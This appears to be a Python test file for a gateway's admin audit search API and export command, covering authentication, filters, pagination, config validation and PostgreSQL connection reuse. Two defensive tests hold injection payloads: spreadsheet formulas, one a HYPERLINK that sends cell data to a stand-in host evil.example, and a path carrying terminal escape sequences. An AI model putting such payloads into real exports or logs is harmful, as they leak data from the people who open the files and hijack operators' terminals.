"""Search for people and programs: GET /admin/audit (admin token, admin
CIDRs, cursor pagination) and `audit export`, on both backends."""
import csv
import io
import json
import os
import time

import requests

from conftest import ORIGIN


def admin_token(g):
    with open(os.path.join(g.data, "keys", "admin.token")) as f:
        return f.read().strip()


def api(g, token=None, **params):
    h = {}
    if token is not None:
        h["Authorization"] = "Bearer " + token
    return requests.get(g.base + "/admin/audit", params=params, headers=h,
                        timeout=30)


def traffic(g):
    ids = []
    for k in range(7):
        if k % 3 == 1:
            r = g.get("app", "/s/x", "GET_Object", key=b"wrong-key-wrong-key")
        else:
            r = g.get("app", "/s/f%d" % k, "GET_Object")
        ids.append((r.headers["X-Request-Id"], r.status_code))
    return ids


def test_admin_audit_api(gk_factory, backend):
    g = gk_factory(backend=backend).start()
    ids = traffic(g)
    tok = admin_token(g)
    # no token, a wrong token, a wrong scheme: 401
    for t in (None, "x" * len(tok), tok + "x"):
        r = api(g, t)
        assert r.status_code == 401
        assert r.json() == {"msg": "Unauthorized: admin token required",
                            "error": True}
    r = requests.get(g.base + "/admin/audit",
                     headers={"Authorization": "Basic " + tok}, timeout=30)
    assert r.status_code == 401
    # everything, newest first
    r = api(g, tok, limit=100)
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["error"] is False and body["next_cursor"] is None
    got = [x for x in body["records"] if x["protocol"] == "v1"]
    assert [x["request_id"] for x in got] == [i for i, _ in reversed(ids)]
    assert all(x["seq"] >= 1 and len(x["hash"]) == 64 for x in got)
    # filters
    r = api(g, tok, status=401, op="GET_Object")
    assert sorted(x["request_id"] for x in r.json()["records"]) == \
        sorted(i for i, s in ids if s == 401)
    r = api(g, tok, decision="allow", op="GET_Object", ip="127.0.0.0/8",
            path_prefix="/s/f")
    assert len(r.json()["records"]) == 5
    assert api(g, tok, ip="10.0.0.0/8").json()["records"] == []
    assert api(g, tok, country="ZZ").json()["records"] == []
    r = api(g, tok, request_id=ids[3][0])
    assert [x["request_id"] for x in r.json()["records"]] == [ids[3][0]]
    now = int(time.time())
    assert api(g, tok, to=str(now - 3600)).json()["records"] == []
    # the epoch is a bound like any other, not "no bound"
    for to in ("0", "1970-01-01", "1970-01-01T00:00:00Z"):
        r = api(g, tok, to=to)
        assert (r.status_code, r.json()["records"]) == (200, []), to
    p = g.run("audit", "search", "--to", "0", "--format", "json")
    assert p.stdout == ""
    # cursor pagination: pages of 2 cover every v1 record once, in order
    seen, cursor = [], None
    for _ in range(20):
        params = {"limit": 2, "op": "GET_Object"}
        if cursor:
            params["cursor"] = cursor
        page = api(g, tok, **params).json()
        seen += [x["request_id"] for x in page["records"]]
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert seen == [i for i, _ in reversed(ids)]
    # bad parameters are refused, never ignored
    for params, name in (({"status": "abc"}, "status"),
                         ({"limit": "0"}, "limit"),
                         ({"limit": "5000"}, "limit"),
                         ({"cursor": "zz"}, "cursor"),
                         ({"ip": "not-an-ip"}, "ip"),
                         ({"decision": "maybe"}, "decision"),
                         ({"from": "yesterday"}, "from"),
                         # a day the month lacks is not moved into the next
                         ({"from": "2026-02-30"}, "from"),
                         ({"to": "2026-04-31T12:00:00Z"}, "to")):
        r = api(g, tok, **params)
        assert r.status_code == 400, params
        assert r.json() == {"msg": "Bad Request: invalid '%s' param" % name,
                            "error": True}
    r = api(g, tok, statsu="401")
    assert r.status_code == 400 and r.json()["msg"] == \
        "Bad Request: unknown param"
    r = requests.post(g.base + "/admin/audit",
                      headers={"Authorization": "Bearer " + tok}, timeout=30)
    assert r.status_code == 405
    # the admin calls are audited too, without the token
    rows = [x for x in g.audit_rows() if x["protocol"] == "admin"]
    assert len(rows) >= 10
    assert {x["status"] for x in rows} >= {200, 400, 401, 405}
    assert not any(tok in repr(x) for x in g.audit_rows())


def test_admin_audit_only_from_admin_cidrs(gk_factory):
    g = gk_factory(admin__cidrs="10.0.0.0/8").start()
    r = api(g, admin_token(g))
    assert r.status_code == 403
    assert r.json() == {"msg": "Forbidden", "error": True}


def test_audit_export(gk_factory, backend):
    g = gk_factory(backend=backend).start()
    ids = traffic(g)
    p = g.run("audit", "export")
    rows = [json.loads(l) for l in p.stdout.splitlines()]
    # oldest first, every record, no limit of 100
    assert [r["request_id"] for r in rows] == [i for i, _ in ids]
    assert [r["seq"] for r in rows] == list(range(1, len(ids) + 1))
    p = g.run("audit", "export", "--format", "csv", "--status", "401")
    table = list(csv.DictReader(io.StringIO(p.stdout)))
    assert [r["request_id"] for r in table] == \
        [i for i, s in ids if s == 401]
    p = g.run("audit", "export", "--to", "2020-01-01")
    assert p.stdout == ""
    p = g.run("audit", "export", "--format", "table", check=False)
    assert p.returncode == 2 and "json or csv" in p.stderr
    # search has the new filters too
    p = g.run("audit", "search", "--format", "json", "--request-id",
              ids[2][0])
    assert [json.loads(l)["request_id"] for l in p.stdout.splitlines()] == \
        [ids[2][0]]
    p = g.run("audit", "search", "--format", "json", "--country", "ZZ",
              "--kid", "k", "--sub", "s")
    assert p.stdout == ""


def test_check_config_masks_dsn_password(gk_factory):
    g = gk_factory(audit__backend="postgres",
                   audit__dsn="postgresql://gk:s3cret-pw@db.example:5432/gk"
                   "?sslmode=require&password=other-secret")
    p = g.run("check-config", check=False)
    out = p.stdout + p.stderr
    assert "s3cret-pw" not in out and "other-secret" not in out
    assert "postgresql://gk:****@db.example:5432/gk?sslmode=require" \
        "&password=****" in out


def test_check_config_audit_settings(gk_factory):
    g = gk_factory()
    good = open(g.config).read()

    def check(extra):
        with open(g.config, "w") as f:
            f.write(good.replace("[audit]\n", "[audit]\n" + extra))
        return g.run("check-config", check=False)

    p = check("instance_id = bad id!\n")
    assert p.returncode == 1 and len(p.stderr.strip().splitlines()) == 1
    assert "instance_id" in p.stderr
    p = check("backend = postgres\n")
    assert p.returncode == 1 and "needs dsn = postgresql://" in p.stderr
    p = check("backend = mysql\n")
    assert p.returncode == 1 and "supported: sqlite, postgres" in p.stderr
    p = check("instance_id = eu-1.gk:a\n")
    assert p.returncode == 0, p.stderr
    assert "instance_id = eu-1.gk:a" in p.stdout
    assert "checkpoint_records = 1000" in p.stdout
    assert "checkpoint_seconds = 60" in p.stdout


def test_csv_export_neutralises_formulas(gk_factory):
    # issue 17, finding 4: a client-chosen User-Agent or Origin must not
    # land in the CSV as a live spreadsheet formula (OWASP's rule)
    g = gk_factory().start()
    evil = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+2",
            "-2+3", "@SUM(A1)"]
    for ua in evil:
        r = requests.get(g.base + "/nothing/here", timeout=30,
                         headers={"User-Agent": ua, "Origin": ua.strip()})
        assert r.status_code in (403, 404)
    p = g.run("audit", "export", "--format", "csv")
    table = list(csv.DictReader(io.StringIO(p.stdout, newline="")))
    uas = [r["user_agent"] for r in table]
    for ua in evil:
        stored = [x for x in uas if x.lstrip("'").strip() == ua.strip()]
        assert stored, (ua, uas)
        # each starts with ' so a spreadsheet shows text, not a formula
        assert all(x.startswith("'") for x in stored), stored
    for row in table:
        for k, v in row.items():
            assert v == "" or v[0] not in "=+-@\t\r", (k, v)
    # an ordinary value is untouched
    r = requests.get(g.base + "/nothing/here", timeout=30,
                     headers={"User-Agent": "curl/8.0 (a, b)"})
    p = g.run("audit", "export", "--format", "csv")
    table = list(csv.DictReader(io.StringIO(p.stdout, newline="")))
    assert table[-1]["user_agent"] == "curl/8.0 (a, b)"


def test_csv_replaces_terminal_controls(gk_factory):
    # a v1 path with terminal escapes (set the window title, BEL, CSI as
    # C1, DEL) is refused, and its audit row keeps the path as sent;
    # audit search/export --format csv print U+FFFD for each control
    # character (but tab, CR, LF), as the table prints '?', so an
    # operator's terminal is not driven by a client
    g = gk_factory().start()
    r = requests.get(g.base + "/reports?path=probe%1b%5d0%3bowned%07%20"
                     "%c2%9b2J%7f%09end&operation=GET_Object"
                     "&expires=9999999999&hmac=00", timeout=30,
                     headers={"Origin": ORIGIN})
    assert r.status_code == 400, r.text
    for cmd in ("search", "export"):
        p = g.run("audit", cmd, "--format", "csv")
        assert p.returncode == 0, p.stderr
        for c in ("\x1b", "\x07", "\x9b", "\x7f"):
            assert c not in p.stdout, (cmd, c)
        rows = list(csv.DictReader(io.StringIO(p.stdout, newline="")))
        assert [x["path"] for x in rows] == [
            "probe\ufffd]0;owned\ufffd \ufffd2J\ufffd\tend"], rows
    # JSON keeps the text exactly, every control escaped (C1 too)
    p = g.run("audit", "export", "--format", "json")
    for c in ("\x1b", "\x07", "\x9b", "\x7f"):
        assert c not in p.stdout, c
    assert json.loads(p.stdout.splitlines()[-1])["path"] == \
        "probe\x1b]0;owned\x07 \x9b2J\x7f\tend"


SEARCHING = ("SELECT count(*) FROM pg_stat_activity WHERE datname = "
             "current_database() AND query LIKE '%%FROM audit WHERE true%%' "
             "AND pid <> pg_backend_pid()")


def test_pg_search_keeps_its_connection(gk_factory, pg_server):
    """PostgreSQL: the server's searches reuse one kept connection (a new
    one is a server process started, most of a search's time), and a kept
    connection the database dropped is replaced without an error."""
    g = gk_factory(backend=pg_server).start()
    ids = traffic(g)
    tok = admin_token(g)
    want = [i for i, _ in reversed(ids)]

    def v1_ids():
        r = api(g, tok, limit=100, op="GET_Object")
        assert r.status_code == 200, r.text
        return [x["request_id"] for x in r.json()["records"]]

    assert v1_ids() == want
    for _ in range(5):
        assert v1_ids() == want
    assert g.pg.psql(g.pgdb, SEARCHING).strip() == "1"
    # the database ends that connection (a restart, an admin): the next
    # search answers all the same, on a new one
    g.pg.psql(g.pgdb, "SELECT pg_terminate_backend(pid) FROM "
              "pg_stat_activity WHERE datname = current_database() AND "
              "query LIKE '%FROM audit WHERE true%' AND "
              "pid <> pg_backend_pid()")
    assert v1_ids() == want
    assert g.pg.psql(g.pgdb, SEARCHING).strip() == "1"
    # a clean stop closes it
    assert g.stop() == 0
    assert g.pg.psql(g.pgdb, SEARCHING).strip() == "0"
    g.start()   # the fixture's teardown stops it again
